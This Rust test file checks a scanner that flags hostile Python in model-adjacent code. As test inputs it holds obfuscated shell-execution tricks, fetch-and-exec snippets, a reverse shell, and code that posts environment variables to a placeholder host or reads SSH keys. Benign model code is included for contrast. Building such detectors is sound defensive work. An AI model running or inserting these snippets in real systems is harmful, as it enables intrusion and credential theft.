//! Source beside models: what runs on import or use, and what honest model code does.

use crate::{check, findings, gating};

/// Rules of medium severity or worse that fire.
fn rules(name: &str, source: &str) -> Vec<String> {
    gating(name, source.as_bytes())
}

#[track_caller]
fn runs(source: &str) {
    assert_eq!(rules("modeling_m.py", source), ["model-code-execution"], "{source}");
}

#[test]
fn programs_are_found_however_they_are_reached() {
    let system = concat!("sys", "tem");
    runs(&format!("import os\nos.{system}('id')\n"));
    runs(&format!("from os import {system} as s\ns('id')\n"));
    runs(&format!("from os import *\n{system}('id')\n"));
    runs(&format!("import os\nf = os.{system}\nf('id')\n"));
    runs(&format!(
        "getattr(__import__('o' + 's'), '{}'[::-1])('id')\n",
        system.chars().rev().collect::<String>()
    ));
    runs(&format!("import sys\nsys.modules['os'].{system}('id')\n"));
    runs(&format!("__builtins__.__dict__['ev' + 'al'](\"__import__('os').{system}('id')\")\n"));
    runs(&format!("import importlib\nimportlib.import_module(''.join(['o', 's'])).{system}('id')\n"));
    runs(&format!("import os\nclass M:\n    x = os.{system}('id')\n"));
    runs(&format!("import os\ndef f(x=os.{system}('id')):\n    pass\n"));
    runs(&format!("def f(x: __import__('os').{system}('id')):\n    pass\n"));
    runs(&format!(
        "import os\nclass M:\n    def forward(self, x):\n        os.{system}('id')\n        return x\n"
    ));
    runs(&format!("import os\nclass M:\n    def __reduce__(self):\n        return (os.{system}, ('id',))\n"));
    runs(&format!("import os, threading\nthreading.Thread(target=os.{system}, args=('id',)).start()\n"));
    runs(&format!("import os\nlist(map(os.{system}, ['id']))\n"));
    runs(&format!("import os\nd = {{'a': os.{system}}}\nd['a']('id')\n"));
    runs(&format!("import os, operator\noperator.attrgetter('{system}')(os)('id')\n"));
    runs(&format!("import os, operator\noperator.methodcaller('{system}', 'id')(os)\n"));
    runs(&format!("def f(): pass\nf.__globals__['__builtins__'].__import__('os').{system}('id')\n"));
    runs(&format!("print.__self__.exec(\"import os; os.{system}('id')\")\n"));
    runs("x = ().__class__.__base__.__subclasses__()[40]('id')\n");
    runs("import ctypes\nctypes.CDLL('/tmp/a.so')\n");
    runs("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n");
}

#[test]
fn hidden_and_fetched_code_is_found_in_any_source() {
    for source in [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "import zlib\nexec(zlib.decompress(b'x'))\n",
        "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()\n",
        "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/x').read())\n",
        "import requests\nr = requests.get('http://192.0.2.1/x')\nexec(r.text)\n",
        "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nfor f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\npty.spawn('/bin/sh')\n",
        "exec(''.join(map(lambda n: chr(n - 1), [1, 2])))\n",
        "# -*- coding: utf-7 -*-\nx = 1\n",
    ] {
        assert_eq!(rules("tool.py", source), ["model-code-execution"], "{source}");
    }
}

#[test]
fn credentials_and_start_files() {
    let sends = "import os, requests\nrequests.post('http://192.0.2.1', json=dict(os.environ))\n";
    assert_eq!(rules("tool.py", sends), ["model-code-network-access"]);
    let key = "d = open('/root/.ssh/id_rsa').read()\n";
    assert_eq!(rules("handler.py", key), ["model-code-file-access"]);
    let start = "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n";
    assert_eq!(rules("handler.py", start), ["model-code-file-access"]);
}

#[test]
fn honest_code_is_left_alone() {
    for (name, source) in [
        (
            "modeling_m.py",
            "import torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n\nclass M(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self.w = nn.Linear(config.hidden, 2)\n        if getattr(config, 'tie', False):\n            self.w.weight = None\n\n    def forward(self, x):\n        return self.w(x)\n",
        ),
        (
            "handler.py",
            "import json, os, torch\nfrom ts.torch_handler.base_handler import BaseHandler\n\nclass H(BaseHandler):\n    def initialize(self, context):\n        d = context.system_properties.get('model_dir')\n        self.model = torch.jit.load(os.path.join(d, 'model.pt'))\n        with open(os.path.join(d, 'labels.json')) as f:\n            self.labels = json.load(f)\n    def handle(self, data, context):\n        return [self.model(torch.tensor(row.get('body'))) for row in data]\n",
        ),
        (
            "model.py",
            "import subprocess\ndef gpus():\n    return subprocess.check_output(['nvidia-smi', '-L'])\n",
        ),
        (
            "setup.py",
            "import subprocess\nsha = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nexec(open('pkg/version.py').read())\n",
        ),
        (
            "tool.py",
            "import os, requests\nkey = os.environ['API_KEY']\ndef ask(q):\n    return requests.post('https://api.example', json={'q': q}, headers={'Authorization': key})\n",
        ),
        (
            "train.py",
            "import subprocess\nif __name__ == '__main__':\n    subprocess.run('nohup python train.py', shell=True)\n",
        ),
        (
            "inference.py",
            "import importlib\ndef load(name):\n    return getattr(importlib.import_module(name), 'Model')()\n",
        ),
    ] {
        assert_eq!(rules(name, source), [""; 0], "{name}: {:#?}", findings(name, source.as_bytes()));
    }
}

#[test]
fn hostile_source_ends() {
    let chain = format!("x = {}\n", vec!["'a'"; 400].join(" + "));
    check("tool.py", chain.as_bytes(), &[]);
    let grow = format!("a = 'aaaaaaaaaaaaaaaa'\n{}", "a = a + a\n".repeat(400));
    check("tool.py", grow.as_bytes(), &[]);
    let lists = format!("a = [1]\n{}", "a = [a, a]\n".repeat(60));
    check("tool.py", lists.as_bytes(), &[]);
    check("a.pth", b"import os; os.getcwd()\n", &[]);
}
